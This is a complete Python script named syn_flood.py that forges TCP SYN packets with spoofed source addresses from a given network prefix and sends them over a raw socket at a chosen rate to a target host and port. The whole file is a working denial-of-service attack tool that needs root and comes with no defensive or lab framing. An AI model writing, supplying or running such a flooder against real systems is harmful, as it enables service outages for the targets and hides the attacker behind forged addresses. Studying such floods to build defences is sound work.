"""python syn_flood.py HOST PORT RATE NETWORK: send SYNs from forged addresses of NETWORK, such as 10.78, until standard
input ends; then print how many were sent. It needs root.
"""

from __future__ import annotations

import random
import select
import socket
import struct
import sys
import time

VARIETY = 4096


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source: str, target: str, port: int, draw: random.Random) -> bytes:
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    ports = (draw.randrange(1024, 65536), port)
    tcp = struct.pack("!HHIIBBHHH", *ports, draw.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    summed = checksum(addresses + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", summed) + tcp[18:]
    # The kernel fills in the checksum of the IP header.
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses + tcp


def main(host: str, port: int, rate: int, network: str) -> None:
    draw = random.Random(7)
    packets = [
        syn(f"{network}.{draw.randrange(1, 255)}.{draw.randrange(1, 255)}", host, port, draw) for _ in range(VARIETY)
    ]
    sent, begin = 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while not select.select([0], [], [], 0.001)[0]:
            while sent < rate * (time.monotonic() - begin):
                raw.sendto(packets[sent % VARIETY], (host, 0))
                sent += 1
    print(sent)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4])
